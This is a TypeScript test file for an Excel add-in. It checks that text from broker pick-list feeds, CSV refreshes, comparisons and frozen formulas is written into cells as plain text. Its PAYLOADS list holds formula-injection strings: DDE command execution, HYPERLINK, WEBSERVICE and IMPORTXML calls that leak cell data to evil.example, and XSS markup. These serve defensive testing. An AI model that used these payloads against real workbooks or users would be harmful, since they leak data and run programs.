/**
 * Formula and markup injection through every path that writes outside text into a workbook: text from a
 * feed, a pasted note or another analyst's list must land in a cell as that exact text, never as a
 * formula (=cmd|' /C calc'!A0 runs a program in old Excel; =HYPERLINK and =WEBSERVICE leak data), a
 * date or a number. Paths, against the Excel fake (test/support/excelFake.ts):
 *
 * - insert: list title (and the sheet name made from it), broker, report title, analysts, table caption,
 *   source line, list id, column labels (headers, and the structured references the live P/E formulas
 *   make of them), names, ratings, text columns, and text found in a number column;
 * - refresh: changed and added names and ratings from a feed (read from CSV, as a colleague's export),
 *   and the refresh log's lines;
 * - the broker comparison sheet: names, list titles and brokers;
 * - freeze: formula results that are text.
 *
 * A cell holds outside text safely when it is text, equal to what came in, and either was formatted "@"
 * (Text) before the value was written or was written with Excel's leading apostrophe. The order matters
 * and is checked from the fake's write log: "@" applied after the value would not stop Excel from having
 * parsed it. And no cell anywhere holds a formula the add-in did not write itself (its live =AIC.FWD_PE).
 * The page's side (HTML from feeds and notes in the taskpane) is covered by test/taskpane/no-html-sinks.test.ts,
 * test/taskpane/ui.dom.test.ts and the browser suite's XSS checks (test/browser/taskpane.test.ts).
 */
import { insertComparison } from "../../src/excel/compareSheet";
import { freezeFormulas } from "../../src/excel/freeze";
import { insertPickList } from "../../src/excel/insert";
import { LOG_SHEET_NAMES } from "../../src/excel/logSheet";
import { refreshTables } from "../../src/excel/refresh";
import { compareLists } from "../../src/picks/compare";
import { parseFeedText } from "../../src/picks/feed";
import type { PickList } from "../../src/picks/types";
import { FakeExcel, parseAddress, type FakeCell } from "../support/excelFake";
import { huaxinList } from "../excel/lists";

/** Text that a spreadsheet would run, link, call out with, or reinterpret. */
export const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A2)",
  "=cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "DDE(\"cmd\";\"/C calc\";\"!A0\")",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=WEBSERVICE("http://evil.example/?"&B2)',
  "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "'=1+1",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "2024-02-18",
  "000977",
  "1e5",
  "50%",
];

/** The only formulas the add-in writes into these sheets: a live P/E over structured references. */
const OUR_FORMULA = /^=AIC\.FWD_PE\(\[@\[(?:'.|[^'\]])*\]\],\[@\[(?:'.|[^'\]])*\]\]\)$/;

const GRID_COLUMNS = 16_384;

/** Every cell of a sheet, with its A1 address. */
function cellsOf(fake: FakeExcel, sheetName: string): Array<{ address: string; row: number; column: number; cell: FakeCell }> {
  const sheet = fake.sheet(sheetName);
  return [...sheet.cells].map(([key, cell]) => {
    const row = Math.floor(key / GRID_COLUMNS);
    const column = key % GRID_COLUMNS;
    return { address: `${column}:${row}`, row, column, cell };
  });
}

/**
 * The number format each cell had when `range.values` last wrote it, replayed from the fake's write log
 * (formats applied later do not count). Keyed "row:column".
 */
function formatAtValueWrite(fake: FakeExcel, sheetName: string): Map<string, string> {
  const format = new Map<string, string>();
  const atWrite = new Map<string, string>();
  for (const w of fake.writes) {
    if (w.sheet !== sheetName || w.address === null) continue;
    if (w.kind !== "range.numberFormat" && w.kind !== "range.values") continue;
    const r = parseAddress(w.address);
    // One value assigned to a whole range sets every cell (the insert sends column formats that way).
    const data = w.data;
    for (let i = 0; i < r.rows; i++) {
      for (let j = 0; j < r.cols; j++) {
        const v = Array.isArray(data) ? (data as unknown[][])[i]?.[j] : data;
        if (v === null || v === undefined) continue;
        const key = `${r.top + i}:${r.left + j}`;
        if (w.kind === "range.numberFormat") format.set(key, String(v));
        else atWrite.set(key, format.get(key) ?? "General");
      }
    }
  }
  return atWrite;
}

/** Each cell of `sheetName` holding `payload` holds it safely; returns how many did. No foreign formula anywhere. */
function expectSafe(fake: FakeExcel, sheetName: string, payload: string): number {
  const formats = formatAtValueWrite(fake, sheetName);
  let found = 0;
  for (const { row, column, cell } of cellsOf(fake, sheetName)) {
    if (cell.kind === "formula") {
      expect(cell.formula).toMatch(OUR_FORMULA);
      continue;
    }
    if (cell.kind !== "text" || typeof cell.value !== "string" || !cell.value.includes(payload.trim() === "" ? "\u0000" : payload)) continue;
    found++;
    const safe = cell.quotePrefix || formats.get(`${row}:${column}`) === "@";
    if (!safe) throw new Error(`${sheetName} row ${row + 1} column ${column + 1}: ${JSON.stringify(cell.value)} was written into a ${formats.get(`${row}:${column}`)} cell without an apostrophe`);
  }
  return found;
}

/** A cell's text exactly: the payload survives byte for byte (an apostrophe prefix is not part of the value). */
function textAt(fake: FakeExcel, sheetName: string, address: string): string | number | boolean | null {
  const cell = fake.cell(sheetName, address);
  expect(cell.kind).toBe("text");
  return cell.value;
}

/** The Huaxin list (华鑫证券 重点关注公司及盈利预测) with every piece of outside text replaced by `p`. */
function poisoned(p: string): PickList {
  const list = huaxinList();
  list.id = p;
  list.title = { zh: p, en: p };
  list.source = { ...list.source, broker: p, brokerEn: p, reportTitle: p, analysts: [p, p], table: p, sourceLine: p };
  list.columns = list.columns.map((c) => ({ ...c, label: { zh: `${p}${c.key}`, en: `${p}${c.key}` } }));
  list.columns.push({ key: "desk_note", kind: "text", label: { zh: p, en: p } });
  list.rows.forEach((row, i) => {
    row.desk_note = p;
    if (i === 0) row.name = p;
    if (i === 1) row.rating = p;
    // Text where a number belongs reaches insert only from an unvalidated caller: it must stay text too.
    if (i === 2) row.price = p;
  });
  return list;
}

describe.each(PAYLOADS.map((p) => [JSON.stringify(p), p] as const))("payload %s", (_label, p) => {
  test("insert: metadata, headers, names, ratings, text columns and text in a number column stay text", async () => {
    const fake = new FakeExcel();
    const result = await insertPickList(fake.requestContext, poisoned(p), { language: "zh" });
    const sheet = result.sheetName;
    // Title, broker, report, analysts, table caption, source line, list id: A1, B2 … B9.
    expect(textAt(fake, sheet, "A1")).toBe(p);
    for (const address of ["B2", "B3", "B7", "B8", "B9"]) expect(textAt(fake, sheet, address)).toBe(p);
    expect(textAt(fake, sheet, "B4")).toBe(`${p}, ${p}`);
    // Rows 12… in the list's order: 高新发展's name, 浪潮信息's rating, 科大讯飞's price.
    expect(textAt(fake, sheet, "B12")).toBe(p);
    expect(textAt(fake, sheet, "C14")).toBe(p);
    // Every payload cell was safe when written (headers included: their labels start with the payload).
    expect(expectSafe(fake, sheet, p)).toBeGreaterThanOrEqual(8 + 17 + 3);
    // The live P/E formulas still reference the (poisoned) price and EPS headers of their own table.
    const formulas = cellsOf(fake, sheet).filter((c) => c.cell.kind === "formula");
    expect(formulas.length).toBe(3 * 17);
  });

  test("refresh from a CSV feed: changed and added names and ratings, and the log's lines, stay text", async () => {
    const fake = new FakeExcel();
    const inserted = await insertPickList(fake.requestContext, huaxinList(), { language: "zh" });
    const field = (v: string): string => `"${v.replace(/"/g, '""')}"`;
    const csv = [
      "代码,名称,股价,投资评级",
      `000628.SZ,${field(p)},39.11,未评级`,
      `000977.SZ,浪潮信息,30.38,${field(p)}`,
      `000066.SZ,${field(p)},12.34,${field(p)}`,
    ].join("\n");
    const feed = parseFeedText(csv, { listId: "huaxin-2024-02-18-focus" }, { listId: "x", name: "huaxin", reportDate: "2024-02-18", url: "https://feeds.example.com/h.csv" });
    if (!feed.ok || feed.format !== "csv") throw new Error(`the feed must read: ${JSON.stringify(feed)}`);
    const report = await refreshTables(fake.requestContext, "all", async () => feed.list);
    expect(report.outcomes.map((o) => [o.status, o.error])).toEqual([["refreshed", null]]);
    const sheet = inserted.sheetName;
    const read = p.trim(); // the CSV reader trims cells: "\t=1+1" arrives as "=1+1", which must stay text too
    expect(textAt(fake, sheet, "B12")).toBe(read); // 高新发展 renamed
    expect(textAt(fake, sheet, "M13")).toBe(read); // 浪潮信息 re-rated
    expect(textAt(fake, sheet, "B29")).toBe(read); // 000066.SZ added below the table
    expect(textAt(fake, sheet, "M29")).toBe(read);
    expect(expectSafe(fake, sheet, read)).toBeGreaterThanOrEqual(4);
    const log = LOG_SHEET_NAMES.zh;
    expect(expectSafe(fake, log, read)).toBeGreaterThanOrEqual(1);
    for (const { cell } of cellsOf(fake, log)) if (cell.kind !== "empty") expect(cell.kind).toBe("text");
  });

  test("broker comparison: names, list titles and brokers stay text", async () => {
    const a = poisoned(p);
    a.rows.forEach((row) => (row.price = 10));
    a.id = "a";
    const b = huaxinList();
    b.id = "b";
    b.source = { ...b.source, broker: `${p}2`, brokerEn: `${p}2` };
    b.rows.forEach((row) => (row.name = p));
    const fake = new FakeExcel();
    const result = await insertComparison(fake.requestContext, compareLists([a, b]), { language: "zh" });
    expect(expectSafe(fake, result.sheetName, p)).toBeGreaterThanOrEqual(17);
  });

  test("freeze: a formula result that is text is frozen as that text", async () => {
    const fake = new FakeExcel();
    const inserted = await insertPickList(fake.requestContext, huaxinList(), { language: "zh" });
    fake.setFormulaResults(inserted.sheetName, () => p);
    await freezeFormulas(fake.requestContext);
    const frozen = cellsOf(fake, inserted.sheetName).filter((c) => c.row >= 11 && c.cell.value === p); // the table body
    expect(frozen.length).toBe(3 * 17);
    for (const { cell } of frozen) expect(cell).toMatchObject({ kind: "text", formula: null, quotePrefix: true });
  });
});
